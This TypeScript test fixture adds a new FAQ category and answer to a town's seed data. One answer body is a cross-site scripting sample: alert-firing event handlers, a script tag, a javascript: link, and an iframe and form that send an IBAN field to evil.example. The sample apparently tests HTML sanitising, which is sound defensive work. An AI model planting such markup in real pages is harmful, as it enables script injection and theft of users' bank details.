import { seedTenants } from '../../../scripts/sandbox/seed/tenants.ts';
import type { SeedCategory } from '../../../scripts/sandbox/faq/seed.ts';
import type { SeedTenant } from '../../../scripts/sandbox/seed/types.ts';

/** A category that an office of Torrebianca published after the build. */
export const newCategory: SeedCategory = {
  id: 900,
  name: 'Piscina comunale',
  answers: [
    {
      id: 9001,
      title: 'Quanto costa il biglietto?',
      body: `<p onclick="alert(1)" style="color:red">Il biglietto costa <strong>5 euro</strong>.</p>
        <script>alert(1)</script><img src=x onerror="alert(1)"><svg onload="alert(1)"></svg>
        <iframe src="https://evil.example/frame"></iframe><a href="javascript:alert(1)">Prezzi</a>
        <form action="https://evil.example/"><input name="iban"></form><style>body { display: none }</style>`,
    },
    { id: 9002, title: 'Quando apre la piscina scoperta?', body: '<p>Dal 1° giugno al 15 settembre.</p>' },
  ],
  children: [
    {
      id: 901,
      name: 'Corsi di nuoto',
      answers: [{ id: 9011, title: 'Domande in arrivo', body: '<p>A settembre.</p>' }],
    },
  ],
};

/** An answer that an office added after the build to a category of the build. */
export const newAnswer = {
  id: 5120,
  title: 'Quando riapre la sala studio?',
  body: '<p>Lunedì 7 settembre.</p>',
};

/** Adds the text of the answer that has none in the sample data, and to its category the new answer. */
function withMissingAnswer(category: SeedCategory): SeedCategory {
  const answers = category.answers.map((answer) =>
    answer.id === 512 ? { ...answer, body: '<p>Il modulo è allo sportello.</p>' } : answer,
  );
  const isChanged = category.answers.some(({ id }) => id === 512);
  return { ...category, answers: isChanged ? [...answers, newAnswer] : answers };
}

/** The sample data with changes made after the build. */
export const tenantsWithNewCategory: readonly SeedTenant[] = seedTenants.map((tenant) =>
  tenant.id === 'torrebianca'
    ? { ...tenant, faq: [...tenant.faq!.map(withMissingAnswer), newCategory] }
    : tenant,
);
